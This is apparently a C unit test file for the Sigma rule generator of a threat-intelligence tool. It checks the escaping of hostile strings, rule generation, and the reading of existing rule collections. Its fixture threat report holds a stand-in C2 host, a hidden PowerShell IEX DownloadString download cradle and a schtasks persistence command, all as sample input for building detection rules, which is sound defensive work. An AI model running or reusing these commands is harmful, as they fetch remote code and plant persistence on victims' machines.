/*
 * Unit tests of the Sigma generator (src/lib/respond/sigma_*.c): YAML
 * quoting and Sigma escaping of hostile values (read back with ctix's own
 * reader), the template library and its filler, IOC rules from a
 * hand-built analysis (every `ioc` observable present, others absent),
 * dates, levels, determinism, the checker on generated rules and the
 * walker of an existing rule collection (limits and symbolic-link loops).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "ctix/ctix.h"
#include "ctix/respond.h"
#include "respond/respond_internal.h"
#include "respond/sigma.h"
#include "util/arena.h"
#include "util/buf.h"

/* A Sigma value back to its literal text. */
static void unescape(char *out, const char *v)
{
  while (*v) {
    if (v[0] == '\\' && (v[1] == '*' || v[1] == '?' || v[1] == '\\')) {
      *out++ = v[1];
      v += 2;
    } else {
      *out++ = *v++;
    }
  }
  *out = 0;
}

static const char *const hostile[] = {
    "it's \"quoted\"",  "*wild*card?",       "C:\\Users\\*\\x.exe", "\\\\server\\share\\",
    "key: value",       "# not a comment",   "- leading dash",     "-",
    "line\nbreak\ttab", "caf\xc3\xa9 \xe2\x80\xa8 sep", "yes",     "null",
    "2024-01-01",       "0x1F",              "1.5",                "~",
    "@at",              "`tick`",            "{brace}",            "[bracket]",
    "&anchor",          "*alias",            "!tag",               "%percent",
    " padded ",         "trailing\\",        "a\\*b",              "ctrl\x01\x7f",
    "",                 "|pipe",             ">fold",              "'",
    "bad \xff utf8",    "1e5",               ":",                  "x #y",
};

/* Every hostile value survives YAML emission and the reader unchanged. */
static void test_yaml_scalar_roundtrip(void **state)
{
  size_t i;
  (void)state;
  for (i = 0; i < sizeof(hostile) / sizeof(hostile[0]); i++) {
    ctix_buf b = CTIX_BUF_INIT(1 << 16);
    ctix_arena arena;
    ctix__sy *docs = NULL;
    const ctix__sy *v;
    ctix__arena_init(&arena, 0);
    ctix__buf_adds(&b, "k: ");
    ctix__sy_emit_scalar(&b, hostile[i], strlen(hostile[i]));
    ctix__buf_addc(&b, '\n');
    assert_int_equal(ctix__sy_parse(&docs, &arena, b.data, b.len, 1 << 20, NULL), 0);
    v = ctix__sy_get(docs->first, "k");
    assert_non_null(v);
    assert_string_equal(ctix__sy_scalar_type(v), "str");
    if (strstr(hostile[i], "\xff"))
      assert_non_null(strstr(v->str, "\xef\xbf\xbd")); /* invalid byte -> U+FFFD */
    else
      assert_string_equal(v->str, hostile[i]);
    ctix__arena_free(&arena);
    ctix__buf_free(&b);
  }
}

/* Sigma escaping: wildcards and backslashes read back as the literal. */
static void test_sigma_escape(void **state)
{
  static const struct {
    const char *in, *out;
  } cases[] = {
      {"a*b?c", "a\\*b\\?c"},
      {"C:\\Windows\\x.exe", "C:\\Windows\\x.exe"},
      {"\\\\srv\\share", "\\\\\\srv\\share"},
      {"end\\", "end\\\\"},
      {"\\*", "\\\\\\*"},
      {"plain", "plain"},
  };
  size_t i;
  (void)state;
  for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
    ctix_buf b = CTIX_BUF_INIT(1024);
    char back[256];
    ctix__sigma_escape(&b, cases[i].in, strlen(cases[i].in));
    assert_string_equal(b.data, cases[i].out);
    unescape(back, b.data);
    assert_string_equal(back, cases[i].in);
    ctix__buf_free(&b);
  }
  for (i = 0; i < sizeof(hostile) / sizeof(hostile[0]); i++) {
    ctix_buf b = CTIX_BUF_INIT(1024);
    char back[256];
    ctix__sigma_escape(&b, hostile[i], strlen(hostile[i]));
    unescape(back, b.data ? b.data : "");
    assert_string_equal(back, hostile[i]);
    ctix__buf_free(&b);
  }
}

/* The embedded library loads, is sorted and has the most used techniques. */
static void test_templates_library(void **state)
{
  const ctix__sigma_template *t;
  size_t n, i;
  (void)state;
  assert_int_equal(ctix__sigma_templates(&t, &n, NULL), 0);
  assert_true(n >= 60);
  for (i = 1; i < n; i++)
    assert_true(strcmp(t[i - 1].technique, t[i].technique) < 0);
  assert_non_null(ctix__sigma_template_find(t, n, "T1105"));
  assert_non_null(ctix__sigma_template_find(t, n, "T1059.001"));
  assert_null(ctix__sigma_template_find(t, n, "T9999"));
}

/* A malformed template is an error with a position. */
static void test_templates_errors(void **state)
{
  static const char *const bad[] = {
      "---\ntechnique: X1\ntitle: t\ndescription: d\nlevel: low\n",
      "---\ntechnique: T1000\ntitle: t\ndescription: d\nlevel: low\nlogsource: {product: x}\n"
      "detection: {s: {a: b}}\nfalsepositives: [xx]\n",
      "---\ntechnique: T1000\ntitle: t\ndescription: d\nlevel: low\nlogsource: {product: x}\n"
      "detection: {s: {a: b}, condition: s}\nfalsepositives: [xx]\n"
      "fill: [{from: nowhere, field: a, selection: selection_article}]\n",
  };
  size_t i;
  (void)state;
  for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
    ctix_arena arena;
    ctix__sigma_template *t;
    size_t n;
    ctix_error err;
    ctix_error_clear(&err);
    ctix__arena_init(&arena, 0);
    assert_int_equal(ctix__sigma_templates_parse(&t, &n, &arena, bad[i], strlen(bad[i]), "x.yml",
                                                 &err),
                     CTIX_EPARSE);
    assert_true(err.line > 0);
    ctix__arena_free(&arena);
  }
}

/* A hand-built analysis: a Markdown article with a code block and IOCs. */
static const char article[] =
    "# Hostile report: 'quotes', *stars* and \\backslashes\n"
    "\n"
    "The loader contacted evil-c2.example-bad.top and 203.0.113.77 is documentation, but "
    "198.51.100.5 is too; 45.61.137.9 was the C2. It fetched "
    "hxxps://dl.evil-c2[.]top/a?b=*&c=\\x and dropped svc*upd?.exe and "
    "C:\\Users\\Public\\run me.ps1, then set "
    "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Evil'Key. "
    "The SHA-256 is 0f343b0931126a20f133d67c2b018a3b0f343b0931126a20f133d67c2b018a3b.\n"
    "\n"
    "```\n"
    "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('x')\"\n"
    "schtasks /create /tn Upd /tr C:\\Users\\Public\\run.bat\n"
    "```\n";

typedef struct fx {
  ctix_analysis *a;
  ctix_analysis copy;
  ctix_ttp_list ttp;
  ctix_ttp_hit hits[3];
} fx;

static void fx_init(fx *f)
{
  ctix_options o;
  ctix_document *doc = NULL;
  ctix_error err;
  static const char *const tac[] = {"execution"};
  memset(f, 0, sizeof(*f));
  ctix_options_init(&o);
  o.doc.source = "hostile.md";
  ctix_error_clear(&err);
  assert_int_equal(ctix_document_parse(&doc, article, sizeof(article) - 1, &o.doc, &err), 0);
  assert_int_equal(ctix_analyze(&f->a, doc, NULL, &o, &err), 0);
  f->copy = *f->a;
  f->hits[0].id = "T1059.001";
  f->hits[0].name = "PowerShell";
  f->hits[0].tactics = tac;
  f->hits[0].ntactics = 1;
  f->hits[1].id = "T1053.005";
  f->hits[1].name = "Scheduled Task";
  f->hits[2].id = "T1105";
  f->hits[2].status = CTIX_TTP_POTENTIAL; /* potential: no behaviour rule */
  f->ttp.items = f->hits;
  f->ttp.count = 3;
  f->copy.techniques = &f->ttp;
  f->copy.assessment = NULL;
}

static const ctix_response_rule *find_rule(const ctix_buf *rules, const char *file)
{
  size_t i;
  for (i = 0; i < CTIX__BUF_COUNT(rules, ctix_response_rule); i++)
    if (strcmp(CTIX__BUF_AT(rules, ctix_response_rule, i).file_name, file) == 0)
      return &CTIX__BUF_AT(rules, ctix_response_rule, i);
  return NULL;
}

/* Reads a rule back and returns the concatenated, unescaped values of its detection. */
static void detection_text(ctix_buf *out, const ctix__sy *n)
{
  const ctix__sy *c;
  char tmp[4096];
  if (n->kind == CTIX__SY_SCALAR) {
    if (n->len < sizeof(tmp)) {
      unescape(tmp, n->str);
      ctix__buf_adds(out, tmp);
      ctix__buf_addc(out, '\n');
    }
    return;
  }
  for (c = n->first; c; c = c->next)
    if (!c->key || strcmp(c->key, "condition") != 0)
      detection_text(out, c);
}

static void test_generate_rules(void **state)
{
  fx f;
  ctix_buf rules = CTIX_BUF_INIT((size_t)1 << 24), rules2 = CTIX_BUF_INIT((size_t)1 << 24);
  ctix_buf all = CTIX_BUF_INIT((size_t)1 << 24);
  ctix_arena arena, arena2;
  ctix_response_options o;
  ctix_error err;
  size_t i, n;
  const ctix_response_rule *r;
  (void)state;
  fx_init(&f);
  ctix__arena_init(&arena, 0);
  ctix__arena_init(&arena2, 0);
  ctix_response_options_init(&o);
  o.date = "2026/02/03";
  ctix_error_clear(&err);
  assert_int_equal(ctix__sigma_generate(&rules, &arena, &f.copy, &o, &err), 0);
  assert_int_equal(ctix__sigma_generate(&rules2, &arena2, &f.copy, &o, &err), 0);
  n = CTIX__BUF_COUNT(&rules, ctix_response_rule);
  assert_int_equal(n, CTIX__BUF_COUNT(&rules2, ctix_response_rule));
  assert_true(n >= 4);
  for (i = 0; i < n; i++) {
    const ctix_response_rule *x = &CTIX__BUF_AT(&rules, ctix_response_rule, i);
    ctix_buf issues = CTIX_BUF_INIT(1 << 20);
    ctix_arena ra;
    ctix__sy *docs;
    /* deterministic */
    assert_string_equal(x->yaml, CTIX__BUF_AT(&rules2, ctix_response_rule, i).yaml);
    assert_int_equal(strlen(x->id), 36);
    assert_non_null(strstr(x->yaml, "date: '2026-02-03'"));
    assert_non_null(strstr(x->yaml, "status: experimental"));
    /* checks clean, reads back */
    assert_int_equal(ctix__sigma_check(&issues, x->yaml, strlen(x->yaml), NULL), 0);
    assert_int_equal(ctix__sigma_nerrors(&issues), 0);
    ctix__buf_free(&issues);
    ctix__arena_init(&ra, 0);
    assert_int_equal(ctix__sy_parse(&docs, &ra, x->yaml, strlen(x->yaml), 1 << 20, NULL), 0);
    assert_string_equal(ctix__sy_get(docs->first, "id")->str, x->id);
    if (strcmp(x->origin, "ioc") == 0) {
      assert_string_equal(x->level, "medium"); /* no assessment */
      detection_text(&all, ctix__sy_get(docs->first, "detection"));
    }
    ctix__arena_free(&ra);
    /* ioc rules first, then behaviour */
    if (i)
      assert_true(strcmp(CTIX__BUF_AT(&rules, ctix_response_rule, i - 1).origin, "ioc") == 0 ||
                  strcmp(x->origin, "ioc") != 0);
  }
  /* every ioc observable is in an IOC rule; benign ones are not */
  for (i = 0; i < f.copy.iocs->nitems; i++) {
    const ctix_ioc *o2 = &f.copy.iocs->items[i];
    if (o2->type == CTIX_IOC_DOMAIN || o2->type == CTIX_IOC_IPV4 ||
        o2->type == CTIX_IOC_FILE_NAME) {
      if (o2->status == CTIX_IOC_STATUS_IOC)
        assert_non_null(strstr(all.data, o2->value));
      else
        assert_null(strstr(all.data, o2->value));
    }
  }
  assert_non_null(strstr(all.data, "45.61.137.9"));
  assert_null(strstr(all.data, "203.0.113.77"));
  r = find_rule(&rules, "ioc_network_connection.yml");
  assert_non_null(r);
  assert_non_null(strstr(r->yaml, "category: network_connection"));
  assert_non_null(find_rule(&rules, "ioc_dns_query.yml"));
  /* the filler: PowerShell template took the code block's command line */
  r = find_rule(&rules, "behaviour_t1059_001.yml");
  assert_non_null(r);
  assert_non_null(strstr(r->yaml, "selection_article_cmd"));
  assert_non_null(strstr(r->yaml, "DownloadString"));
  assert_non_null(strstr(r->yaml, "attack.execution"));
  r = find_rule(&rules, "behaviour_t1053_005.yml");
  assert_non_null(r);
  assert_non_null(strstr(r->yaml, "schtasks /create /tn Upd"));
  assert_null(find_rule(&rules, "behaviour_t1105.yml")); /* potential only */
  ctix__buf_free(&rules);
  ctix__buf_free(&rules2);
  ctix__buf_free(&all);
  ctix__arena_free(&arena);
  ctix__arena_free(&arena2);
  ctix_analysis_free(f.a);
}

/* Levels from the risk level, bad options rejected, empty analyses fine. */
static void test_options_and_empty(void **state)
{
  fx f;
  ctix_buf rules = CTIX_BUF_INIT((size_t)1 << 24);
  ctix_arena arena;
  ctix_response_options o;
  ctix_assessment as;
  ctix_analysis empty;
  ctix_error err;
  size_t i;
  (void)state;
  fx_init(&f);
  ctix__arena_init(&arena, 0);
  ctix_response_options_init(&o);
  memset(&as, 0, sizeof(as));
  as.risk_level = "critical";
  f.copy.assessment = &as;
  ctix_error_clear(&err);
  assert_int_equal(ctix__sigma_generate(&rules, &arena, &f.copy, &o, &err), 0);
  for (i = 0; i < CTIX__BUF_COUNT(&rules, ctix_response_rule); i++)
    if (strcmp(CTIX__BUF_AT(&rules, ctix_response_rule, i).origin, "ioc") == 0)
      assert_string_equal(CTIX__BUF_AT(&rules, ctix_response_rule, i).level, "critical");
  ctix__buf_reset(&rules);
  o.date = "yesterday";
  assert_int_equal(ctix__sigma_generate(&rules, &arena, &f.copy, &o, &err), CTIX_EINVAL);
  o.date = NULL;
  o.tlp = "AMBER'";
  ctix_error_clear(&err);
  assert_int_equal(ctix__sigma_generate(&rules, &arena, &f.copy, &o, &err), CTIX_EINVAL);
  /* the CLI's and the other writers' "amber+strict" is the tag
   * "tlp.amber-strict" (a Sigma tag has no '+') */
  o.tlp = "amber+strict";
  ctix__buf_reset(&rules);
  assert_int_equal(ctix__sigma_generate(&rules, &arena, &f.copy, &o, &err), 0);
  assert_true(CTIX__BUF_COUNT(&rules, ctix_response_rule) > 0);
  for (i = 0; i < CTIX__BUF_COUNT(&rules, ctix_response_rule); i++) {
    const char *y = CTIX__BUF_AT(&rules, ctix_response_rule, i).yaml;
    assert_non_null(strstr(y, "tlp.amber-strict"));
    assert_null(strstr(y, "amber+strict"));
  }
  o.tlp = NULL;
  memset(&empty, 0, sizeof(empty));
  ctix__buf_reset(&rules);
  assert_int_equal(ctix__sigma_generate(&rules, &arena, &empty, &o, NULL), 0);
  assert_int_equal(CTIX__BUF_COUNT(&rules, ctix_response_rule), 0);
  ctix__buf_free(&rules);
  ctix__arena_free(&arena);
  ctix_analysis_free(f.a);
}

/* --sigma-rules: matching by tag, ids kept, loops and junk survived. */
static void test_existing_rules(void **state)
{
  char dir[] = "/tmp/ctix-sigma-existing-XXXXXX", p[512];
  const char *techs[] = {"T1059.001"};
  ctix_buf rules = CTIX_BUF_INIT((size_t)1 << 24);
  ctix_arena arena;
  size_t skipped = 0;
  FILE *fp;
  (void)state;
  assert_non_null(mkdtemp(dir));
  snprintf(p, sizeof(p), "%s/sub", dir);
  assert_int_equal(mkdir(p, 0700), 0);
  snprintf(p, sizeof(p), "%s/sub/a.yml", dir);
  fp = fopen(p, "w");
  fputs("title: A\nid: 11111111-2222-4333-8444-555555555555\ntags: [attack.t1059.001]\n"
        "logsource: {product: windows}\ndetection: {s: {a: b}, condition: s}\n",
        fp);
  fclose(fp);
  snprintf(p, sizeof(p), "%s/b.yml", dir);
  fp = fopen(p, "w");
  fputs("title: B\nid: 21111111-2222-4333-8444-555555555555\ntags: [attack.t1105]\n", fp);
  fclose(fp);
  snprintf(p, sizeof(p), "%s/junk.yml", dir);
  fp = fopen(p, "w");
  fputs("attack.t1059.001: [unclosed\n", fp);
  fclose(fp);
  /* a tagged rule one byte over the per-rule limit: skipped, not read whole */
  snprintf(p, sizeof(p), "%s/big.yml", dir);
  fp = fopen(p, "w");
  assert_non_null(fp);
  fputs("title: Big\nid: 31111111-2222-4333-8444-555555555555\ntags: [attack.t1059.001]\n#", fp);
  for (size_t i = (size_t)ftell(fp); i < CTIX__SY_MAX_INPUT + 1; i++)
    fputc('x', fp);
  fclose(fp);
  snprintf(p, sizeof(p), "%s/sub/loop", dir);
  assert_int_equal(symlink(dir, p), 0);
  ctix__arena_init(&arena, 0);
  assert_int_equal(ctix__sigma_existing(&rules, &arena, dir, techs, 1, &skipped, NULL), 0);
  assert_int_equal(CTIX__BUF_COUNT(&rules, ctix_response_rule), 1);
  assert_string_equal(CTIX__BUF_AT(&rules, ctix_response_rule, 0).id,
                      "11111111-2222-4333-8444-555555555555");
  assert_string_equal(CTIX__BUF_AT(&rules, ctix_response_rule, 0).source_path, "sub/a.yml");
  assert_string_equal(CTIX__BUF_AT(&rules, ctix_response_rule, 0).origin, "existing");
  assert_int_equal(skipped, 2); /* junk.yml, big.yml */
  assert_int_equal(ctix__sigma_existing(&rules, &arena, "/nonexistent/dir", techs, 1, NULL, NULL),
                   CTIX_EIO);
  unlink(p);
  snprintf(p, sizeof(p), "%s/sub/a.yml", dir);
  unlink(p);
  snprintf(p, sizeof(p), "%s/sub", dir);
  rmdir(p);
  snprintf(p, sizeof(p), "%s/b.yml", dir);
  unlink(p);
  snprintf(p, sizeof(p), "%s/junk.yml", dir);
  unlink(p);
  snprintf(p, sizeof(p), "%s/big.yml", dir);
  unlink(p);
  rmdir(dir);
  ctix__buf_free(&rules);
  ctix__arena_free(&arena);
}

/*
 * A collection read once serves many documents: the matches do not read
 * the folder again (it is gone by then) and each copies the rule into its
 * own arena; a missing folder or a file is an error at load.
 */
static void test_collection_once(void **state)
{
  char dir[] = "/tmp/ctix-sigma-coll-XXXXXX", p[512];
  const char *techs[] = {"T1059.001"}, *other[] = {"T1105"};
  ctix_sigma_collection *c = NULL;
  ctix_error err;
  size_t round, skipped = 0;
  FILE *fp;
  (void)state;
  assert_non_null(mkdtemp(dir));
  snprintf(p, sizeof(p), "%s/a.yml", dir);
  fp = fopen(p, "w");
  assert_non_null(fp);
  fputs("title: A\nid: 11111111-2222-4333-8444-555555555555\nlevel: high\n"
        "tags: [attack.execution, attack.T1059.001]\n"
        "logsource: {product: windows}\ndetection: {s: {a: b}, condition: s}\n",
        fp);
  fclose(fp);
  ctix_error_clear(&err);
  assert_int_equal(ctix_response_collection_load(&c, dir, &skipped, &err), 0);
  assert_int_equal(skipped, 0);
  assert_int_equal(unlink(p), 0);
  assert_int_equal(rmdir(dir), 0);
  for (round = 0; round < 2; round++) {
    ctix_buf rules = CTIX_BUF_INIT((size_t)1 << 24);
    ctix_arena arena;
    const ctix_response_rule *r;
    ctix__arena_init(&arena, 0);
    assert_int_equal(ctix__sigma_existing_match(&rules, &arena, c, techs, 1, &err), 0);
    assert_int_equal(CTIX__BUF_COUNT(&rules, ctix_response_rule), 1);
    r = &CTIX__BUF_AT(&rules, ctix_response_rule, 0);
    assert_string_equal(r->id, "11111111-2222-4333-8444-555555555555");
    assert_string_equal(r->file_name, "existing_a.yml");
    assert_string_equal(r->source_path, "a.yml");
    assert_string_equal(r->level, "high");
    assert_int_equal(r->ntechniques, 1);
    assert_ptr_equal(r->techniques[0], techs[0]);
    assert_non_null(strstr(r->yaml, "detection:"));
    ctix__buf_reset(&rules);
    assert_int_equal(ctix__sigma_existing_match(&rules, &arena, c, other, 1, &err), 0);
    assert_int_equal(CTIX__BUF_COUNT(&rules, ctix_response_rule), 0);
    ctix__buf_free(&rules);
    ctix__arena_free(&arena);
  }
  ctix_response_collection_free(c);
  ctix_response_collection_free(NULL);
  c = NULL;
  assert_int_equal(ctix_response_collection_load(&c, dir, NULL, &err), CTIX_EIO);
  assert_null(c);
  assert_non_null(strstr(err.message, dir));
  ctix_error_clear(&err);
  assert_int_equal(ctix_response_collection_load(&c, "/dev/null", NULL, &err), CTIX_EINVAL);
  assert_non_null(strstr(err.message, "not a directory"));
}

/* The checker's verdicts on small rules. */
static void test_check(void **state)
{
  static const struct {
    const char *yaml;
    size_t errors;
  } cases[] = {
      {"title: t\nlogsource: {product: w}\ndetection: {s: {a: 1}, condition: s}\n", 0},
      {"title: t\nlogsource: {product: w}\ndetection: {s: {a: 1}, condition: not s and}\n", 1},
      {"title: t\nlogsource: {product: w}\ndetection: {s: {a: 1}, condition: 1 of x*}\n", 1},
      {"title: t\nlogsource: {product: w}\ndetection: {s: {a|nope: 1}, condition: s}\n", 1},
      {"title: t\nlogsource: {product: w}\ndetection: {s: {a: 1}, condition: s | count() > 5}\n", 1},
      {"title: t\nlogsource: {}\ndetection: {s: [k], condition: all of them}\n", 1},
      {"title: [x]\nlogsource: {product: w}\ndetection: {s: {a: 1}, condition: s}\n", 1},
      {"title: t\nid: 0b4b72e3-4c53-4d5b-b198-2c58cfef39a9\nlogsource: {product: w}\n"
       "detection: {s: {a: 1}, condition: s}\n", 0},
  };
  size_t i;
  (void)state;
  for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
    ctix_buf issues = CTIX_BUF_INIT(1 << 20);
    assert_int_equal(ctix__sigma_check(&issues, cases[i].yaml, strlen(cases[i].yaml), NULL), 0);
    if (ctix__sigma_nerrors(&issues) != cases[i].errors)
      fail_msg("case %zu: %zu errors, expected %zu", i, ctix__sigma_nerrors(&issues),
               cases[i].errors);
    ctix__buf_free(&issues);
  }
}

int main(void)
{
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_yaml_scalar_roundtrip),
      cmocka_unit_test(test_sigma_escape),
      cmocka_unit_test(test_templates_library),
      cmocka_unit_test(test_templates_errors),
      cmocka_unit_test(test_generate_rules),
      cmocka_unit_test(test_options_and_empty),
      cmocka_unit_test(test_existing_rules),
      cmocka_unit_test(test_collection_once),
      cmocka_unit_test(test_check),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
